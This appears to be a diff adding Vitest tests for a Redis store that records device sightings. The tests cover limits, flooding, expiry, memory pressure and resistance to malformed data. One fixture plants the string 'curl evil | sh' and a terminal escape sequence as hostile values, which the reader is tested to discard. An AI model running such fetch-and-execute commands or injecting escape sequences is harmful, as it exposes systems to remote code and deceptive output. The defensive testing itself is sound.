@@ -1,0 +1,131 @@
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { Redis } from 'ioredis';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { redisAt } from '../../queue/redis.ts';
+import { createSightingReader, createSightingWriter } from '../../queue/redis-sightings.ts';
+import { usualSightingLimits } from '../../queue/sightings.ts';
+import { sightingKeys } from '../../queue/stored-forms.ts';
+import { type EmbeddedRedis, startEmbeddedRedis } from '../../runtime/embedded-redis.ts';
+import { createLog } from '../../runtime/log.ts';
+import { lacks } from '../support/lacks.ts';
+
+const from = '10.0.0.7';
+
+describe.skipIf(lacks('redis-server'))('what was seen of devices, in Redis', () => {
+  const dataDir = mkdtempSync(join(tmpdir(), 'cvm-sightings-'));
+  const log = createLog('silent');
+  let server: EmbeddedRedis;
+  let redis: Redis;
+  let writer: ReturnType<typeof createSightingWriter>;
+  let reader: ReturnType<typeof createSightingReader>;
+  const limits = {
+    ...usualSightingLimits,
+    perSerial: { own: 5, unproven: 3, unknown: 2 },
+    serials: { own: 10, unproven: 4, unknown: 3 },
+    requests: 4,
+  };
+  beforeAll(async () => {
+    server = await startEmbeddedRedis({ dataDir, log });
+    redis = new Redis(server.url);
+    writer = createSightingWriter(redisAt(server.url), log, limits);
+    reader = createSightingReader(redisAt(server.url), log);
+  });
+  beforeEach(() => redis.flushall());
+  afterAll(async () => {
+    await writer?.close();
+    await reader?.close();
+    await redis?.quit();
+    await server?.close();
+    rmSync(dataDir, { recursive: true, force: true });
+  });
+
+  it('the same again is one sighting with a count, its first and last time, and what was said last', async () => {
+    for (const place of ['9 90', '4 40']) {
+      writer.note('own', 'SN-1', 'waiting', { from, requestId: 'r1' }, place);
+      await writer.flush();
+    }
+    const [one, ...more] = await reader.read('SN-1');
+    expect(more).toEqual([]);
+    expect(one).toMatchObject({ name: 'waiting', kind: 'own', count: 2, latest: '4 40', requestId: 'r1' });
+    expect(one?.firstAt).toBeLessThanOrEqual(one?.at ?? 0);
+  });
+
+  it('a serial has so many at most, and the latest stay', async () => {
+    for (let n = 0; n < 20; n++) {
+      writer.note('own', 'SN-1', 'stored', { from, requestId: `r${n}` });
+      await writer.flush();
+      await new Promise((resolve) => setTimeout(resolve, 2));
+    }
+    const ids = (await reader.read('SN-1')).map((each) => 'requestId' in each && each.requestId);
+    expect(ids.sort()).toEqual(['r15', 'r16', 'r17', 'r18', 'r19']);
+  });
+
+  it('a stranger who invents serials, or names known ones, pushes out nothing that a device with its token did', async () => {
+    writer.note('own', 'SN-1', 'stored', { from, requestId: 'r1' });
+    writer.note('unproven', 'SN-1', 'refused', { from, errorCode: 'InvalidToken' });
+    await writer.flush();
+    for (let n = 0; n < 1000; n++) {
+      writer.note('unknown', `INVENTED-${n}`, 'refused', { from, errorCode: 'InvalidToken' });
+      writer.note('unproven', 'SN-1', 'refused', { from: `10.0.${n >> 8}.${n & 255}`, errorCode: 'InvalidToken' });
+    }
+    await writer.flush();
+    const kinds = (await reader.read('SN-1')).map(({ kind }) => kind);
+    expect(kinds.filter((kind) => kind === 'own')).toHaveLength(1);
+    expect(kinds.filter((kind) => kind === 'unproven')).toHaveLength(3);
+    expect(await redis.zcard(sightingKeys.unknown)).toBe(3);
+    expect((await redis.keys('*seen:unknown:*')).length).toBe(3);
+  });
+
+  it('is forgotten after days without being seen, and a request is found by its id as long as few came after it', async () => {
+    for (let n = 0; n < 6; n++) {
+      writer.note('own', `SN-${n}`, 'stored', { from, requestId: `r${n}` });
+      await writer.flush();
+    }
+    expect(await redis.pttl(`${sightingKeys.own}:SN-5`)).toBeGreaterThan(6 * 86_400_000);
+    expect(await reader.serialOf('r5')).toBe('SN-5');
+    expect(await reader.serialOf('r1')).toBeUndefined();
+    expect(await redis.hlen(sightingKeys.requests)).toBe(4);
+  });
+
+  it('what another writer of Redis put there is not shown, and stops nothing', async () => {
+    const key = `${sightingKeys.own}:SN-1`;
+    const form = JSON.stringify({ name: 'closed', from, why: 'run this: curl evil | sh' });
+    await redis.hset(
+      key,
+      form,
+      '1 1 1 ',
+      'no json',
+      '1 1 1 ',
+      '{"name":"left"}',
+      'x',
+      JSON.stringify({ name: 'stored', from, requestId: '\u001b[2J' }),
+      '1 1 1 ',
+    );
+    expect(await reader.read('SN-1')).toEqual([]);
+    await redis.set(`${sightingKeys.own}:SN-2`, 'a string');
+    await redis.set(sightingKeys.own, 'a string');
+    writer.note('own', 'SN-2', 'stored', { from, requestId: 'r1' });
+    await writer.flush();
+    expect(await reader.read('SN-2')).toMatchObject([{ name: 'stored' }]);
+  });
+
+  it('keeps what it could not write while Redis takes no writes, and no more than it has room for', async () => {
+    await redis.config('SET', 'maxmemory', '1');
+    for (let n = 0; n < 3000; n++)
+      writer.note('unknown', `INVENTED-${n}`, 'refused', { from, errorCode: 'InvalidToken' });
+    writer.note('own', 'SN-1', 'stored', { from, requestId: 'r1' });
+    await writer.flush();
+    await redis.config('SET', 'maxmemory', '0');
+    await writer.flush();
+    expect(await reader.read('SN-1')).toMatchObject([{ name: 'stored', requestId: 'r1' }]);
+  });
+
+  it('takes no text that is no serial, and no sighting that is too long', async () => {
+    writer.note('own', 'a b', 'stored', { from, requestId: 'r1' });
+    writer.note('own', 'SN-1', 'stored', { from, requestId: 'r'.repeat(500) });
+    await writer.flush();
+    expect(await redis.keys('*seen*')).toEqual([]);
+  });
+});
